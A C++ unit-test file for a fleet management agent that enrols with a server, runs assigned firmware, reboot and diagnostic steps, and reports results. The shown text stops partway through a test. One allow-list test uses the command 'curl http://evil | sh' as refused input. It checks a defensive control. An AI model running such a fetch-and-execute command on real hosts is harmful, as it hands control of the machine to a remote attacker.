// Tier `unit`: the agent against a scripted kilnd, a FakeProcessRunner, a fake host probe and
// a FakeClock. Nothing sleeps; waits on the fakes are bounded safety nets.
#include "agents/agent/agent.h"

#include <sys/stat.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <atomic>
#include <filesystem>
#include <fstream>
#include <map>
#include <future>
#include <thread>

#include "agents/agent/tests/fakes.h"
#include "common/artifact_ref.h"
#include "common/crypto.h"
#include "common/exec/fake_process_runner.h"

namespace kiln::agent {
namespace {

using namespace std::chrono_literals;
using exec::FakeProcessRunner;
using exec::ProcessResult;
using nlohmann::json;
using testing::FakeProbe;
using testing::FakeTransport;
namespace fs = std::filesystem;

json assignment(const std::string& id, std::vector<std::string> argv, json extra = json::object()) {
  json a = {{"id", id}, {"lease", 1}, {"run_id", "r-1"}, {"step_id", "s"}, {"attempt", 1},
            {"type", "run"}, {"argv", argv}, {"timeout_ms", 8000}, {"kill_grace_ms", 2000},
            {"parse", ""}, {"output_cap", 65536}, {"inventory_after", false}};
  a.update(extra);
  return a;
}

// Polls the cancel token of a step the way the real runner does (it checks every few ms).
void waitCancelled(const exec::CancelToken* token) {
  for (int i = 0; i < 10000 && !(token && token->cancelled()); ++i) {
    std::this_thread::sleep_for(1ms);
  }
}

// A tool that says it started, then runs until the agent cancels it (SIGTERM).
exec::FakeProcessRunner::Handler runsUntilCancelled(
    std::promise<void>& started) {
  return [&started](const exec::ProcessSpec&, const exec::CancelToken* cancel) {
    started.set_value();
    waitCancelled(cancel);
    ProcessResult r;
    r.started = true;
    r.cancelled = cancel->cancelled();
    r.term_signal = 15;
    return r;
  };
}

std::vector<json> journalLines(const fs::path& dir) {
  std::ifstream in(dir / "journal.jsonl");
  std::vector<json> out;
  for (std::string line; std::getline(in, line);) {
    if (!line.empty()) out.push_back(json::parse(line));
  }
  return out;
}

class AgentTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = fs::temp_directory_path() /
           ("kiln_agent_test_" + std::to_string(::getpid()) + "_" +
            ::testing::UnitTest::GetInstance()->current_test_info()->name());
    fs::remove_all(dir_);
    fs::create_directories(dir_);
    std::ofstream(dir_ / "enroll") << "kiln_e_enrolsecret\n";
    settings_.host = "h1";
    settings_.state_dir = dir_ / "state";
    settings_.enroll_token_file = (dir_ / "enroll").string();
    settings_.poll_wait_s = 25;
    // The tests below count the clock's waits; the running= poll's delay has tests of its own.
    settings_.running_poll_delay = 0ms;
    settings_.step_env = {{"PATH", "/opt/shims:/usr/bin"}, {"KILN_HWSIM_DIR", "/x"}};
    settings_.reboot_check_interval = 2000ms;
  }
  void TearDown() override {
    stop();
    fs::remove_all(dir_);
  }

  void start(ArtifactFetcher* artifacts = nullptr) {
    auto log = std::make_shared<NullLogger>();
    agent_ = std::make_unique<Agent>(settings_, transport_, runner_, probe_, clock_, log,
                                     [] { return 0.5; });
    if (artifacts != nullptr) agent_->useArtifacts(*artifacts);
    thread_ = std::thread([this] { status_ = agent_->run(); });
  }
  void stop() {
    if (!agent_) return;
    agent_->requestStop();
    thread_.join();
    agent_.reset();
  }
  // A journal written by an earlier agent process.
  void journalBefore(const std::function<void(Journal&)>& write) {
    auto j = Journal::open(settings_.state_dir);
    ASSERT_TRUE(j.ok());
    write(**j);
  }
  void storedToken(const std::string& token) {
    fs::create_directories(settings_.state_dir);
    ASSERT_TRUE(writeAgentToken(settings_.state_dir, token).ok());
  }

  fs::path dir_;
  AgentSettings settings_;
  FakeTransport transport_;
  FakeProcessRunner runner_;
  FakeProbe probe_;
  // Wall time starts at 1'750'000'000'000 ms (the journal records below are dated from it).
  FakeClock clock_{TimePoint(std::chrono::milliseconds(1'750'000'000'000))};
  std::unique_ptr<Agent> agent_;
  std::thread thread_;
  Status status_ = okStatus();
};

TEST_F(AgentTest, EnrolsWithTheEnrolmentTokenAndStoresTheAgentTokenPrivately) {
  start();
  ASSERT_TRUE(transport_.waitForPolls(1));
  auto regs = transport_.registers();
  ASSERT_EQ(regs.size(), 1u);
  EXPECT_EQ(regs[0].method, "POST");
  EXPECT_EQ(regs[0].token, "kiln_e_enrolsecret");
  json body = json::parse(regs[0].body);
  EXPECT_EQ(body["host"], "h1");
  EXPECT_EQ(body["boot_id"], "boot-1");
  EXPECT_EQ(body["agent_version"], kAgentVersion);
  // Components only: no boot_id, no non-version values.
  EXPECT_EQ(body["inventory"], (json{{"gpu_vbios", "97.00.82.00.0E"}, {"nic", "28.43.1014"}}));

  auto polls = transport_.polls();
  EXPECT_EQ(polls[0].token, "kiln_1_s");
  EXPECT_EQ(polls[0].path, "/api/v1/agents/h1/work?wait=25&boot_id=boot-1");
  EXPECT_TRUE(polls[0].long_poll);

  struct stat st {};
  ASSERT_EQ(::stat((settings_.state_dir / kTokenFileName).c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0600u);
  EXPECT_EQ(readAgentToken(settings_.state_dir).value(), "kiln_1_s");
}

TEST_F(AgentTest, SkipsEnrolmentWhenATokenIsStored) {
  storedToken("kiln_9_old");
  start();
  ASSERT_TRUE(transport_.waitForPolls(1));
  EXPECT_TRUE(transport_.registers().empty());
  EXPECT_EQ(transport_.polls()[0].token, "kiln_9_old");
}

TEST_F(AgentTest, RetriesEnrolmentWithBackoffUntilTheHostExists) {
  transport_.pushRegister(HttpReply{404, R"({"error":{"code":"not_found"}})"});
  transport_.pushRegister(unavailable("connection refused"));
  start();
  ASSERT_TRUE(transport_.waitForPolls(1));
  EXPECT_EQ(transport_.registers().size(), 3u);
  auto waits = clock_.waits();
  ASSERT_GE(waits.size(), 2u);
  EXPECT_EQ(waits[0], 750ms);  // 1 s with jitter 0.75
  EXPECT_EQ(waits[1], 1500ms);
}

TEST_F(AgentTest, ReEnrolsWhenKilndRefusesTheToken) {
  storedToken("kiln_9_revoked");
  transport_.pushPoll(HttpReply{401, R"({"error":{"code":"unauthenticated"}})"});
  start();
  ASSERT_TRUE(transport_.waitForPolls(2));
  EXPECT_EQ(transport_.registers().size(), 1u);
  EXPECT_EQ(transport_.polls()[1].token, "kiln_1_s");
  EXPECT_EQ(readAgentToken(settings_.state_dir).value(), "kiln_1_s");
}

TEST_F(AgentTest, ReEnrolsOnceThenBacksOffWhenTheNewTokenIsRefusedToo) {
  storedToken("kiln_9_revoked");
  transport_.pushPoll(HttpReply{401, ""});
  transport_.pushPoll(HttpReply{401, ""});
  start();
  ASSERT_TRUE(transport_.waitForPolls(3));
  EXPECT_EQ(transport_.registers().size(), 2u);
  EXPECT_EQ(clock_.waits(), (std::vector<std::chrono::milliseconds>{750ms}));
}

TEST_F(AgentTest, ExitsWithAnErrorWithoutAnyToken) {
  settings_.enroll_token_file.clear();
  start();
  thread_.join();
  agent_.reset();
  EXPECT_FALSE(status_.ok());
  EXPECT_EQ(status_.error().code, ErrorCode::kInvalidArgument);
}

TEST_F(AgentTest, RunsAnAssignmentAndReportsItsResult) {
  runner_.script("nvidia-smi", FakeProcessRunner::exited(3, "out text", "err text"));
  transport_.pushAssignment(assignment("a-1", {"nvidia-smi", "-q"}, {{"lease", 7}}));
  start();
  ASSERT_TRUE(transport_.waitForReports(1));
  auto call = transport_.reports()[0];
  EXPECT_EQ(call.method, "POST");
  EXPECT_EQ(call.path, "/api/v1/assignments/a-1/result");
  EXPECT_EQ(call.token, "kiln_1_s");
  json r = json::parse(call.body);
  EXPECT_EQ(r["lease"], 7);
  EXPECT_EQ(r["host"], "h1");
  EXPECT_EQ(r["started"], true);
  EXPECT_EQ(r["exit_code"], 3);
  EXPECT_EQ(r["signal"], 0);
  EXPECT_EQ(r["timed_out"], false);
  EXPECT_EQ(r["cancelled"], false);
  EXPECT_EQ(r["stdout_tail"], "out text");
  EXPECT_EQ(r["stderr_tail"], "err text");
  EXPECT_EQ(r["stdout_bytes"], 8);
  EXPECT_TRUE(r["parsed"].is_null());
  EXPECT_EQ(r["boot_id"], "boot-1");
  EXPECT_TRUE(r["inventory"].is_null());
  EXPECT_EQ(r["agent_note"], "");

  auto specs = runner_.specs();
  ASSERT_EQ(specs.size(), 1u);
  EXPECT_EQ(specs[0].argv, (std::vector<std::string>{"nvidia-smi", "-q"}));
  EXPECT_EQ(specs[0].env, settings_.step_env);
  EXPECT_EQ(specs[0].timeout, 8000ms);
  EXPECT_EQ(specs[0].kill_grace, 2000ms);
  EXPECT_EQ(specs[0].output_cap, 65536u);
  EXPECT_EQ(specs[0].parse_capture_cap, 0u);

  stop();
  auto lines = journalLines(settings_.state_dir);
  ASSERT_EQ(lines.size(), 4u);  // started (pid 0), started (pid), finished, reported
  EXPECT_EQ(lines[0]["event"], "started");
  EXPECT_EQ(lines[0]["pid"], 0);
  EXPECT_EQ(lines[1]["event"], "started");
  EXPECT_EQ(lines[1]["pid"], 1000);
  EXPECT_EQ(lines[1]["boot_id"], "boot-1");
  EXPECT_EQ(lines[2]["event"], "finished");
  EXPECT_EQ(lines[2]["result"]["exit_code"], 3);
  EXPECT_EQ(lines[3]["event"], "reported");
  EXPECT_EQ(lines[3]["lease"], 7);
}

TEST_F(AgentTest, RunsTheStepAReportsAnswerHandsOutAndSaysWhenItIsReady) {
  runner_.script("nvidia-smi", FakeProcessRunner::exited(0, "one", ""));
  runner_.script("dcgmi", FakeProcessRunner::exited(0, "two", ""));
  transport_.pushAssignment(assignment("a-1", {"nvidia-smi", "-q"}, {{"lease", 1}}));
  // The first report's acknowledgement carries the host's next step; no poll hands it out.
  transport_.pushReport(HttpReply{200, json{{"acknowledged", true}, {"outcome", "accepted"},
                                            {"assignment", assignment("a-2", {"dcgmi", "diag"}, {{"lease", 1}})}}
                                           .dump()});
  transport_.pushReport(HttpReply{200, json{{"acknowledged", true}, {"outcome", "accepted"}}.dump()});
  start();
  ASSERT_TRUE(transport_.waitForReports(2));
  auto reports = transport_.reports();
  EXPECT_EQ(reports[0].path, "/api/v1/assignments/a-1/result");
  EXPECT_EQ(reports[1].path, "/api/v1/assignments/a-2/result");
  // Holding no other step when it reports, the agent says it is ready for the next one.
  EXPECT_EQ(json::parse(reports[0].body)["ready"], true);
  EXPECT_EQ(json::parse(reports[1].body)["stdout_tail"], "two");
  auto specs = runner_.specs();
  ASSERT_EQ(specs.size(), 2u);
  EXPECT_EQ(specs[1].argv, (std::vector<std::string>{"dcgmi", "diag"}));
  // Journaled like a step from a poll: started, finished, reported for each.
  stop();
  int reported = 0;
  for (const auto& line : journalLines(settings_.state_dir)) reported += line["event"] == "reported";
  EXPECT_EQ(reported, 2);
}

TEST_F(AgentTest, AppliesTheParserToTheWholeStdoutAndSendsOnlyTheTail) {
  const std::string doc = R"({"gpus": [1, 2, 3], "padding": ")" + std::string(200, 'x') + "\"}";
  runner_.script("tool", FakeProcessRunner::exited(0, doc));
  transport_.pushAssignment(assignment("a-1", {"tool"}, {{"parse", "json"}, {"output_cap", 16}}));
  start();
  ASSERT_TRUE(transport_.waitForReports(1));
  json r = transport_.reportBody(0);
  EXPECT_EQ(r["parse_error"], "");
  EXPECT_EQ(r["parsed"]["gpus"], json::array({1, 2, 3}));
  EXPECT_EQ(r["stdout_tail"].get<std::string>().size(), 16u);
  EXPECT_EQ(runner_.specs()[0].parse_capture_cap, settings_.parse_capture_cap);
}

// Issue 35: parsed_output_cap (a step's stdout_when_parsed) trims a clean, parsed run's tail;
// a run that failed, or whose output did not parse, keeps its whole tail.
TEST_F(AgentTest, AParsedRunSendsOnlyParsedOutputCapOfItsStdout) {
  const std::string doc = R"({"gpus": [1, 2, 3], "padding": ")" + std::string(200, 'x') + "\"}";
  runner_.script("tool", FakeProcessRunner::exited(0, doc));
  runner_.script("failing", FakeProcessRunner::exited(1, doc));
  runner_.script("garbled", FakeProcessRunner::exited(0, "{not json" + std::string(200, 'y')));
  const json caps = {{"parse", "json"}, {"output_cap", 100}, {"parsed_output_cap", 10}};
  transport_.pushAssignment(assignment("a-1", {"tool"}, caps));
  transport_.pushAssignment(assignment("a-2", {"failing"}, caps));
  transport_.pushAssignment(assignment("a-3", {"garbled"}, caps));
  start();
  ASSERT_TRUE(transport_.waitForReports(3));
  json clean = transport_.reportBody(0);
  EXPECT_EQ(clean["parsed"]["gpus"], json::array({1, 2, 3}));
  EXPECT_EQ(clean["stdout_tail"], "xxxxxxxx\"}");
  EXPECT_EQ(clean["stdout_bytes"], doc.size());
  EXPECT_EQ(transport_.reportBody(1)["stdout_tail"].get<std::string>().size(), 100u) << "exit 1 keeps its tail";
  EXPECT_EQ(transport_.reportBody(2)["stdout_tail"].get<std::string>().size(), 100u) << "a parse error keeps its tail";
}

TEST_F(AgentTest, ReportsParseErrors) {
  runner_.script("tool", FakeProcessRunner::exited(0, "{not json"));
  runner_.script("other", FakeProcessRunner::exited(0, "{}"));
  transport_.pushAssignment(assignment("a-1", {"tool"}, {{"parse", "json"}}));
  transport_.pushAssignment(assignment("a-2", {"other"}, {{"parse", "yaml-please"}}));
  start();
  ASSERT_TRUE(transport_.waitForReports(2));
  json bad_output = transport_.reportBody(0);
  EXPECT_TRUE(bad_output["parsed"].is_null());
  EXPECT_NE(bad_output["parse_error"], "");
  json bad_format = transport_.reportBody(1);
  EXPECT_TRUE(bad_format["parsed"].is_null());
  EXPECT_NE(bad_format["parse_error"].get<std::string>().find("yaml-please"), std::string::npos);
}

TEST_F(AgentTest, ParseLimitOverflowIsAParseError) {
  settings_.parse_capture_cap = 8;
  runner_.script("tool", FakeProcessRunner::exited(0, R"({"a": "0123456789"})"));
  transport_.pushAssignment(assignment("a-1", {"tool"}, {{"parse", "json"}}));
  start();
  ASSERT_TRUE(transport_.waitForReports(1));
  json r = transport_.reportBody(0);
  EXPECT_TRUE(r["parsed"].is_null());
  EXPECT_NE(r["parse_error"].get<std::string>().find("parse limit"), std::string::npos);
}

TEST_F(AgentTest, RetriesAReportWithBackoffUntilAcknowledged) {
  runner_.script("tool", FakeProcessRunner::exited(0));
  transport_.pushReport(unavailable("connection refused"));
  transport_.pushReport(HttpReply{503, "{}"});
  transport_.pushReport(unavailable("timeout"));
  transport_.pushAssignment(assignment("a-1", {"tool"}));
  start();
  ASSERT_TRUE(transport_.waitForReports(4));
  stop();
  auto reports = transport_.reports();
  ASSERT_EQ(reports.size(), 4u);
  for (const auto& r : reports) EXPECT_EQ(r.body, reports[0].body);
  EXPECT_EQ(clock_.waits(), (std::vector<std::chrono::milliseconds>{750ms, 1500ms, 3000ms}));
  EXPECT_EQ(runner_.runCount(), 1u);
  auto lines = journalLines(settings_.state_dir);
  EXPECT_EQ(lines.back()["event"], "reported");
}

TEST_F(AgentTest, BackoffIsCappedAtThirtySeconds) {
  runner_.script("tool", FakeProcessRunner::exited(0));
  for (int i = 0; i < 8; ++i) transport_.pushReport(HttpReply{502, ""});
  transport_.pushAssignment(assignment("a-1", {"tool"}));
  start();
  ASSERT_TRUE(transport_.waitForReports(9));
  auto waits = clock_.waits();
  ASSERT_EQ(waits.size(), 8u);
  EXPECT_EQ(waits[4], 12000ms);  // 16 s * 0.75
  EXPECT_EQ(waits[5], 22500ms);  // 30 s * 0.75
  EXPECT_EQ(waits[7], 22500ms);
}

TEST_F(AgentTest, StaleLeaseReportIsDroppedNotRetried) {
  runner_.script("tool", FakeProcessRunner::exited(0));
  runner_.script("next", FakeProcessRunner::exited(0));
  transport_.pushReport(HttpReply{409, R"({"error":{"code":"conflict"}})"});
  transport_.pushAssignment(assignment("a-1", {"tool"}));
  transport_.pushAssignment(assignment("a-2", {"next"}));
  start();
  ASSERT_TRUE(transport_.waitForReports(2));
  auto reports = transport_.reports();
  EXPECT_EQ(reports[0].path, "/api/v1/assignments/a-1/result");
  EXPECT_EQ(reports[1].path, "/api/v1/assignments/a-2/result");
  stop();
  EXPECT_TRUE(clock_.waits().empty());
  auto journal = Journal::open(settings_.state_dir);
  ASSERT_TRUE(journal.ok());
  EXPECT_TRUE((*journal)->find("a-1", 1)->reported);
}

TEST_F(AgentTest, ReRunsNothingWhenKilndSendsAReportedAssignmentAgain) {
  runner_.script("tool", FakeProcessRunner::exited(0));
  transport_.pushAssignment(assignment("a-1", {"tool"}));
  transport_.pushAssignment(assignment("a-1", {"tool"}));
  transport_.pushAssignment(assignment("a-1", {"tool"}, {{"lease", 2}}));  // reassigned: runs
  start();
  ASSERT_TRUE(transport_.waitForReports(2));
  ASSERT_TRUE(transport_.waitForPolls(4));
  EXPECT_EQ(runner_.runCount(), 2u);
  EXPECT_EQ(transport_.reportBody(1)["lease"], 2);
}

TEST_F(AgentTest, ReplayReportsAFinishedUnreportedStepWithoutRunningItAgain) {
  storedToken("kiln_9_s");
  journalBefore([](Journal& j) {
    ASSERT_TRUE(j.started({{"id", "a-1"}, {"lease", 3}, {"pid", 77}, {"boot_id", "boot-1"},
                           {"assignment", assignment("a-1", {"tool"}, {{"lease", 3}})}}).ok());
    ASSERT_TRUE(j.finished("a-1", 3, {{"lease", 3}, {"exit_code", 0}, {"stdout_tail", "done"}}).ok());
  });
  // kilnd saw no report yet: it offers the assignment again (then other work, to show the
  // offer was processed: assignments are taken in order).
  runner_.script("next", FakeProcessRunner::exited(0));
  transport_.pushAssignment(assignment("a-1", {"tool"}, {{"lease", 3}}));
  transport_.pushAssignment(assignment("a-2", {"next"}));
  transport_.pushReport(HttpReply{200, R"({"acknowledged": true})"});  // duplicate: still 200
  start();
  ASSERT_TRUE(transport_.waitForReports(2));
  stop();
  EXPECT_EQ(runner_.argvs(), (std::vector<std::vector<std::string>>{{"next"}}));
  ASSERT_EQ(transport_.reports().size(), 2u);
  EXPECT_EQ(transport_.reports()[1].path, "/api/v1/assignments/a-2/result");
  json r = transport_.reportBody(0);
  EXPECT_EQ(r["stdout_tail"], "done");
  EXPECT_EQ(r["exit_code"], 0);
}

TEST_F(AgentTest, ReplayReportsAStartedRunStepAsFailedWithoutRunningIt) {
  storedToken("kiln_9_s");
  journalBefore([](Journal& j) {
    ASSERT_TRUE(j.started({{"id", "a-1"}, {"lease", 1}, {"pid", 4242}, {"boot_id", "boot-1"},
                           {"started_at_ms", 1'750'000'000'000 - 5000},
                           {"assignment", assignment("a-1", {"tool"})}}).ok());
  });
  runner_.script("next", FakeProcessRunner::exited(0));
  transport_.pushAssignment(assignment("a-1", {"tool"}));
  transport_.pushAssignment(assignment("a-2", {"next"}));
  start();
  ASSERT_TRUE(transport_.waitForReports(2));
  stop();
  EXPECT_EQ(runner_.argvs(), (std::vector<std::vector<std::string>>{{"next"}}));
  ASSERT_EQ(transport_.reports().size(), 2u);
  EXPECT_EQ(transport_.reports()[0].path, "/api/v1/assignments/a-1/result");
  json r = transport_.reportBody(0);
  EXPECT_EQ(r["agent_note"], kRestartedNote);
  EXPECT_EQ(r["started"], true);
  EXPECT_EQ(r["exit_code"], -1);
  EXPECT_EQ(r["duration_ms"], 5000);
}

json rebootStarted(const std::string& boot_id, std::int64_t timeout_ms) {
  return {{"id", "a-r"},
          {"lease", 1},
          {"pid", 99},
          {"boot_id", boot_id},
          {"started_at_ms", 1'750'000'000'000},
          {"assignment", assignment("a-r", {"kiln-reboot"},
                                    {{"type", "reboot"}, {"timeout_ms", timeout_ms},
                                     {"inventory_after", true}})}};
}

TEST_F(AgentTest, ReplayCompletesARebootWhenTheBootIdChanged) {
  storedToken("kiln_9_s");
  journalBefore([](Journal& j) { ASSERT_TRUE(j.started(rebootStarted("boot-1", 600000)).ok()); });
  probe_.setBootId("boot-2");
  start();
  ASSERT_TRUE(transport_.waitForReports(1));
  EXPECT_EQ(runner_.runCount(), 0u);
  json r = transport_.reportBody(0);
  EXPECT_EQ(r["exit_code"], 0);
  EXPECT_EQ(r["started"], true);
  EXPECT_EQ(r["timed_out"], false);
  EXPECT_EQ(r["boot_id"], "boot-2");
  EXPECT_EQ(r["inventory"]["gpu_vbios"], "97.00.82.00.0E");
  EXPECT_EQ(r["agent_note"], "");
}

TEST_F(AgentTest, ReplayWithTheSameBootIdKeepsWaitingForTheReboot) {
  storedToken("kiln_9_s");
  journalBefore([](Journal& j) { ASSERT_TRUE(j.started(rebootStarted("boot-1", 600000)).ok()); });
  probe_.changeBootIdAfter(4, "boot-2");  // 1 read at start, then 3 checks 2 s apart
  start();
  ASSERT_TRUE(transport_.waitForReports(1));
  json r = transport_.reportBody(0);
  EXPECT_EQ(r["exit_code"], 0);
  EXPECT_EQ(r["boot_id"], "boot-2");
  EXPECT_EQ(clock_.waits(), (std::vector<std::chrono::milliseconds>{2000ms, 2000ms, 2000ms}));
}

TEST_F(AgentTest, RebootStillAwaitedAfterARestartCanBeCancelled) {
  storedToken("kiln_9_s");
  journalBefore([](Journal& j) { ASSERT_TRUE(j.started(rebootStarted("boot-1", 600000)).ok()); });
  clock_.setHold(true);  // the boot id never changes and time does not run out
  start();
  // While it waits, its polls say the reboot runs, so that kilnd can cancel it.
  ASSERT_TRUE(transport_.waitForPolls(1));
  EXPECT_NE(transport_.polls()[0].path.find("&running=a-r"), std::string::npos);
  transport_.pushPoll(HttpReply{200, R"({"cancel": ["a-r"]})"});
  ASSERT_TRUE(transport_.waitForReports(1));
  json r = transport_.reportBody(0);
  EXPECT_EQ(r["cancelled"], true);
  EXPECT_EQ(r["boot_id"], "boot-1");
}

TEST_F(AgentTest, RebootThatNeverHappensTimesOut) {
  storedToken("kiln_9_s");
  journalBefore([](Journal& j) { ASSERT_TRUE(j.started(rebootStarted("boot-1", 5000)).ok()); });
  start();
  ASSERT_TRUE(transport_.waitForReports(1));
  json r = transport_.reportBody(0);
  EXPECT_EQ(r["timed_out"], true);
  EXPECT_EQ(r["boot_id"], "boot-1");
  EXPECT_EQ(clock_.waits(), (std::vector<std::chrono::milliseconds>{2000ms, 2000ms, 1000ms}));
}

TEST_F(AgentTest, RebootStepReportsAtOnceWhenTheBootIdChangesWhileTheAgentLives) {
  runner_.scriptHandler("kiln-reboot", [&](const exec::ProcessSpec&, const exec::CancelToken*) {
    probe_.setBootId("boot-2");  // the simulator's reboot is done when the command exits
    return FakeProcessRunner::exited(0, "kiln-reboot: h1 is up\n");
  });
  transport_.pushAssignment(assignment("a-r", {"kiln-reboot"},
                                       {{"type", "reboot"}, {"inventory_after", true}}));
  start();
  ASSERT_TRUE(transport_.waitForReports(1));
  json r = transport_.reportBody(0);
  EXPECT_EQ(r["exit_code"], 0);
  EXPECT_EQ(r["boot_id"], "boot-2");
  EXPECT_EQ(r["stdout_tail"], "kiln-reboot: h1 is up\n");
  EXPECT_TRUE(r["inventory"].is_object());
  EXPECT_TRUE(clock_.waits().empty());
  // Later polls carry the new boot id.
  transport_.pushPoll(HttpReply{204, ""});
  ASSERT_TRUE(transport_.waitForPollWith("boot_id=boot-2"));
}

TEST_F(AgentTest, FailedRebootCommandIsReportedWithoutWaiting) {
  runner_.script("kiln-reboot", FakeProcessRunner::exited(1, "", "permission denied"));
  transport_.pushAssignment(assignment("a-r", {"kiln-reboot"}, {{"type", "reboot"}}));
  start();
  ASSERT_TRUE(transport_.waitForReports(1));
  json r = transport_.reportBody(0);
  EXPECT_EQ(r["exit_code"], 1);
  EXPECT_EQ(r["boot_id"], "boot-1");
  EXPECT_TRUE(clock_.waits().empty());
}

TEST_F(AgentTest, CancelsTheRunningStepWhenKilndSaysSo) {
  settings_.running_poll_delay = 1000ms;
  std::promise<void> started;
  runner_.scriptHandler("dcgmi", runsUntilCancelled(started));
  transport_.pushAssignment(assignment("a-1", {"dcgmi", "diag", "-r", "3"}));
  start();
  // The poll made while the step runs names it, once the step has run the delay (the fake
  // clock moved by it).
  ASSERT_EQ(started.get_future().wait_for(10s), std::future_status::ready);
  ASSERT_TRUE(transport_.waitForPollWith("&running=a-1"));
  const auto waits = clock_.waits();
  EXPECT_NE(std::find(waits.begin(), waits.end(), 1000ms), waits.end());
  transport_.pushPoll(HttpReply{200, R"({"cancel": ["a-1"]})"});
  ASSERT_TRUE(transport_.waitForReports(1));
  json r = transport_.reportBody(0);
  EXPECT_EQ(r["cancelled"], true);
  EXPECT_EQ(r["signal"], 15);
}

TEST_F(AgentTest, AStepThatEndsWithinThePollDelayIsNeverPolledForAndItsNextComesWithTheReport) {
  settings_.running_poll_delay = 1000ms;
  clock_.setHold(true);  // no time passes: every step ends within the delay
  runner_.script("tool", FakeProcessRunner::exited(0, "ok"));
  transport_.pushAssignment(assignment("a-1", {"tool"}));
  // a-1's acknowledgement hands out a-2, as kilnd does for a report with "ready": true.
  transport_.pushReport(HttpReply{200, json{{"assignment", assignment("a-2", {"tool"})}}.dump()});
  start();
  ASSERT_TRUE(transport_.waitForReports(2));
  EXPECT_EQ(transport_.reportBody(0)["ready"], true);
  // After a-2's report the agent holds nothing and long-polls for work again.
  ASSERT_TRUE(transport_.waitForPolls(2));
  stop();
  for (const auto& p : transport_.polls()) EXPECT_EQ(p.path.find("running="), std::string::npos) << p.path;
}

TEST_F(AgentTest, CancelForAQueuedAssignmentReportsItWithoutStarting) {
  runner_.script("tool", FakeProcessRunner::exited(0));
  transport_.pushPoll(HttpReply{200, json{{"assignment", assignment("a-1", {"tool"})},
                                          {"cancel", {"a-1"}}}.dump()});
  start();
  ASSERT_TRUE(transport_.waitForReports(1));
  json r = transport_.reportBody(0);
  EXPECT_EQ(r["cancelled"], true);
  EXPECT_EQ(r["started"], false);
}

TEST_F(AgentTest, InvalidAssignmentIsReportedAsNotStarted) {
  transport_.pushAssignment(json{{"id", "a-1"}, {"lease", 2}, {"type", "run"}, {"argv", json::array()}});
  start();
  ASSERT_TRUE(transport_.waitForReports(1));
  json r = transport_.reportBody(0);
  EXPECT_EQ(r["started"], false);
  EXPECT_EQ(r["lease"], 2);
  EXPECT_NE(r["spawn_error"].get<std::string>().find("empty argv"), std::string::npos);
  EXPECT_EQ(runner_.runCount(), 0u);
}

// The host's own allow-list (--allowed-executables): whatever kilnd sends, a step running
// anything else is reported not started with the reason, and nothing is spawned; a listed one
// runs.
TEST_F(AgentTest, AStepOutsideTheHostsAllowListIsRefusedUnrun) {
  settings_.allowed_executables = *parseExecutableAllowList("nvfwupd\nkiln-reboot\n", "/etc/kiln/executables");
  runner_.script("nvfwupd", FakeProcessRunner::exited(0));
  transport_.pushAssignment(assignment("a-1", {"bash", "-c", "curl http://evil | sh"}));
  transport_.pushAssignment(assignment("a-2", {"nvfwupd", "-p", "fw.pldm"}));
  start();
  ASSERT_TRUE(transport_.waitForReports(2));
  json refused = transport_.reportBody(0);
  EXPECT_EQ(refused["started"], false);
  const std::string why = refused["spawn_error"].get<std::string>();
  EXPECT_NE(why.find("'bash' is not in the allow-list /etc/kiln/executables"), std::string::npos) << why;
  json ran = transport_.reportBody(1);
  EXPECT_EQ(ran["started"], true) << ran.dump();
  EXPECT_EQ(runner_.runCount(), 1u) << "only the listed tool was spawned";
}

// Artifacts (issue 31): the tool gets the verified local path; wrong bits never reach a tool.
class AgentArtifactsTest : public AgentTest {
 protected:
  void SetUp() override {
    AgentTest::SetUp();
    ArtifactSettings s;
    s.cache_dir = dir_ / "artifacts";
    s.tries_per_source = 1;
    s.retry_wait = 0ms;
    fetcher_ = std::make_unique<ArtifactFetcher>(s, downloader_, SignatureCheck{}, std::make_shared<NullLogger>());
    ASSERT_TRUE(fetcher_->open().ok());
  }
  void startWithArtifacts() { start(fetcher_.get()); }
  json artifactStep(const std::string& id, const std::string& url, const std::string& sha) {
    return assignment(id, {"mlxfwmanager", "-u", "-i", artifactPlaceholder(sha), "-y"},
                      {{"artifacts", json::array({{{"url", url}, {"sha256", sha}}})}});
  }
  testing::ScriptedDownloader downloader_;
  std::unique_ptr<ArtifactFetcher> fetcher_;
};

TEST_F(AgentArtifactsTest, TheToolGetsTheVerifiedLocalPathAndWrongBitsNeverReachIt) {
  const std::string good = "fw-ConnectX7 28.45.1200", url = "https://artifacts.example/fw/fw-ConnectX7-rel-28_45_1200.bin";
  downloader_.bodies[url] = good;
  runner_.script("mlxfwmanager", FakeProcessRunner::exited(0));
  transport_.pushAssignment(artifactStep("a-1", url, sha256Hex(good)));
  // Another step names bits the server does not have (a tampered mirror).
  transport_.pushAssignment(artifactStep("a-2", url, sha256Hex("the real image")));
  // A step whose argv names an artifact it does not carry.
  transport_.pushAssignment(assignment("a-3", {"mlxfwmanager", "-i", artifactPlaceholder(std::string(64, 'c'))}));
  startWithArtifacts();
  ASSERT_TRUE(transport_.waitForReports(3));
  json ran = transport_.reportBody(0);
  EXPECT_EQ(ran["started"], true) << ran.dump();
  ASSERT_EQ(runner_.argvs().size(), 1u) << "only the verified step ran";
  EXPECT_EQ(runner_.argvs()[0][3], (dir_ / "artifacts" / sha256Hex(good) / "fw-ConnectX7-rel-28_45_1200.bin").string());
  json tampered = transport_.reportBody(1);
  EXPECT_EQ(tampered["started"], false);
  EXPECT_NE(tampered["spawn_error"].get<std::string>().find("sha256 mismatch"), std::string::npos) << tampered.dump();
  json unknown = transport_.reportBody(2);
  EXPECT_EQ(unknown["started"], false);
  EXPECT_NE(unknown["spawn_error"].get<std::string>().find("does not carry"), std::string::npos) << unknown.dump();
}

TEST_F(AgentArtifactsTest, AStageFetchesIntoTheCacheAndRunsNothing) {
  const std::string bits = "tray package", url = "https://artifacts.example/fw/nvfw.fwpkg";
  downloader_.bodies[url] = bits;
  transport_.pushAssignment(json{{"id", "s-1"}, {"lease", 1}, {"type", "stage"}, {"argv", json::array()},
                                 {"artifacts", json::array({{{"url", url}, {"sha256", sha256Hex(bits)}}})}});
  transport_.pushAssignment(json{{"id", "s-2"}, {"lease", 1}, {"type", "stage"}, {"argv", json::array()},
                                 {"artifacts", json::array({{{"url", "https://artifacts.example/gone.bin"}, {"sha256", sha256Hex("x")}}})}});
  startWithArtifacts();
  ASSERT_TRUE(transport_.waitForReports(2));
  json staged = transport_.reportBody(0);
  EXPECT_EQ(staged["started"], true);
  EXPECT_EQ(staged["exit_code"], 0);
